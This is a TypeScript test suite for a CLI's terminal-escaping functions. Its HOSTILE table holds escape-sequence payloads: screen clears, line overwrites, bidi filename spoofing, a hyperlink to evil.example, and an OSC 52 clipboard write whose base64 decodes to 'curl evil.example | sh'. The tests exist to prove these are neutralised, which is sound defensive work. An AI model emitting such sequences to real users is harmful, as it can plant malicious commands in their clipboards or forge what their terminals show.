import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { runCli } from '../../src/cli/cli.js';
import type { Command } from '../../src/cli/command.js';
import { jsonTerminalSafe, terminalSafe, terminalSafeLines } from '../../src/presenters/terminal-safe.js';

/** Anything a terminal could act on: C0, DEL, C1, bidi controls, line/paragraph separators. */
// eslint-disable-next-line no-control-regex -- the test looks for exactly these
const ACTIVE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Hostile descriptions a pelapor could type (or a script could send through the API). */
const HOSTILE: [string, string, string][] = [
  ['clear screen (ESC[2J) and home', 'Login error\x1b[2J\x1b[H', 'Login error␛[2J␛[H'],
  ['red text (SGR)', '\x1b[31mURGENT\x1b[0m', '␛[31mURGENT␛[0m'],
  ['OSC 52 clipboard write', '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07', '␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇'],
  ['OSC 8 hyperlink with ST', '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\', '␛]8;;https://evil.example␛\\click␛]8;;␛\\'],
  ['C1 CSI (U+009B)', 'ok\u009b2J', 'ok\\u009b2J'],
  ['C1 OSC (U+009D) and ST (U+009C)', '\u009d0;pwned\u009c', '\\u009d0;pwned\\u009c'],
  ['BEL', 'ding\x07', 'ding␇'],
  ['CR overwrite of the line', 'A1a ok\rA1a GAGAL', 'A1a ok␍A1a GAGAL'],
  ['backspaces', 'root\b\b\b\buser', 'root␈␈␈␈user'],
  ['NUL and DEL', 'a\x00b\x7fc', 'a␀b␡c'],
  ['a fake second line', 'fine\n  A1b ok     forged', 'fine␊  A1b ok     forged'],
  ['RLO bidi override', 'invoice\u202Efdp.exe', 'invoice\\u202efdp.exe'],
  ['bidi isolates', '\u2066admin\u2069', '\\u2066admin\\u2069'],
  ['LRM/RLM', 'a\u200eb\u200fc', 'a\\u200eb\\u200fc'],
  ['line separator', 'a\u2028b', 'a\\u2028b'],
];

describe(terminalSafe.name, () => {
  for (const [what, input, shown] of HOSTILE) {
    it(`shows ${what} visibly and leaves nothing a terminal acts on`, () => {
      assert.equal(terminalSafe(input), shown);
      assert.doesNotMatch(terminalSafe(input), ACTIVE);
    });
  }

  it('leaves ordinary text, Indonesian and other scripts as they are', () => {
    for (const s of ['Halaman login SPSE error 502', 'Disk /var penuh — 100 %', 'Łódź, 東京, مرحبا', 'tab?', '']) assert.equal(terminalSafe(s), s);
  });

  it('never lets an active character through, whatever the text (property)', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => !ACTIVE.test(terminalSafe(s)) && !ACTIVE.test(terminalSafeLines(s).replace(/\n/g, ''))));
  });
});

describe(terminalSafeLines.name, () => {
  it('keeps lines, indents each continuation, and still escapes CR and ESC', () => {
    assert.equal(terminalSafeLines('one\r\ntwo\x1b[2J\nthree', '    '), 'one␍\n    two␛[2J\n    three');
  });
});

describe(jsonTerminalSafe.name, () => {
  it('escapes what JSON.stringify leaves raw, and the document still parses to the same value', () => {
    const value = { description: 'x\u009b2J\u202e\x1b[31m\u2028y', n: 1 };
    const text = jsonTerminalSafe(JSON.stringify(value, null, 2));
    assert.doesNotMatch(text.replace(/\n/g, ''), ACTIVE);
    assert.deepEqual(JSON.parse(text), value);
  });
});

describe('the CLI output (runCli)', () => {
  it('passes every line through the terminal escaping, even one no presenter shaped', async () => {
    const lines: string[] = [];
    const echo: Command = { name: 'echo', summary: 'prints hostile text', options: {}, run: async (ctx) => {
      ctx.io.out('name: Evil\x1b]0;pwned\x07\x1b[2J');
      ctx.io.err('two\nlines\u009b1m');
    } };
    const status = await runCli(['echo'], { out: (l) => lines.push(l), err: (l) => lines.push(l), readStdin: async () => '', env: {} },
      () => { throw new Error('no app needed'); }, [echo]);
    assert.equal(status, 0);
    assert.deepEqual(lines, ['name: Evil␛]0;pwned␇␛[2J', 'two\nlines\\u009b1m']);
  });
});
